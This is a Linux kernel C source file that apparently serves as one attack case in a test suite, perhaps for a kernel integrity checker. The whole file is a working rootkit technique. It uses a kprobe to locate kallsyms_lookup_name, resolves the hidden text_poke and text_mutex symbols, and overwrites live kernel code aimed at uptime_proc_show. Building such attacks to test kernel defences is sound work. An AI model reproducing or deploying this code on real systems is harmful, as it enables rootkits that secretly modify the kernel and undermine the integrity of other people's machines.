// SPDX-License-Identifier: GPL-2.0-only
/* Kernel text through the kernel's own text_poke, found as rootkits find it: with a kprobe. */
#include <linux/kprobes.h>
#include <linux/mutex.h>

#include "attack.h"

/* Where a function begins, by the place where a probe of it would stand. */
static unsigned long find(const char *name)
{
	struct kprobe kp = {.symbol_name = name};
	unsigned long at;

	if (register_kprobe(&kp))
		return 0;
	at = (unsigned long)kp.addr;
	unregister_kprobe(&kp);
	return at;
}

static int write_text(void *at, const void *bytes, size_t len)
{
	unsigned long (*lookup)(const char *) = (void *)find("kallsyms_lookup_name");
	void *(*poke)(void *, const void *, size_t);
	struct mutex *mutex;

	if (!lookup)
		return -ENOENT;
	poke = (void *)lookup("text_poke");
	mutex = (void *)lookup("text_mutex");
	if (!poke || !mutex)
		return -ENOENT;
	mutex_lock(mutex);
	poke(at, bytes, len);
	mutex_unlock(mutex);
	return 0;
}

ATTACK_TEXT(write_text, uptime_proc_show, "text through text_poke");
